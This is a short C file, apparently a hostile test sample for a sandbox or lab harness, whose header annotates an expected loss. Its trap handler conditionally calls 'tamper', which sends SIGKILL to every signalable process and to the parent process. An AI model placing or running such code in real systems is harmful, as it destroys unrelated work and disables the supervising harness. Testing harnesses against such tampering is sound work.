/* SPDX-License-Identifier: MIT */
/* loses: flags whole
 * Signals to the parent, and to everybody.
 */
#include <signal.h>
#include <unistd.h>

static void tamper(void)
{
    (void)kill(-1, SIGKILL);
    (void)kill(getppid(), SIGKILL);
}

enum lab_next lab_on_trap(struct lab *lab, const struct lab_trap *t)
{
    if (t->duty == LAB_CLI)
        tamper();
    return honest(lab, t);
}
